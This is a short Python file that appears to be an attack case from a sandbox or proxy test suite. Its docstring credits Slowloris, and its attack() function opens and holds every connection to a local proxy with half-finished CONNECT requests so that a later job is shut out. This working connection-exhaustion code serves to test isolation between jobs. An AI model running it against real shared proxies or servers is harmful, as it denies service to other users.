"""Take every connection of the door and never let go, so that the next job gets none.

origin: Slowloris, and every pool without shares
why: jobs with one grant have one proxy
control: needs a door
timeout: 4
grants: net:127.0.0.1:1
"""

import socket


def attack(target):
    held = []
    try:
        while True:
            held.append(socket.create_connection(("127.0.0.1", 3128), timeout=0.5))
            held[-1].sendall(b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n")
    except OSError as error:
        return blocked(f"connection {len(held)}", error)


def second(target):
    try:
        with socket.create_connection(("127.0.0.1", 3128), timeout=1) as door:
            door.sendall(b"CONNECT 127.0.0.1:9 HTTP/1.1\r\n\r\n")
            answer = door.recv(100)
    except OSError as error:
        return escaped(f"the next job stands before a shut door: {error}")
    return nothing(f"the next job was told {answer[:20]!r}")
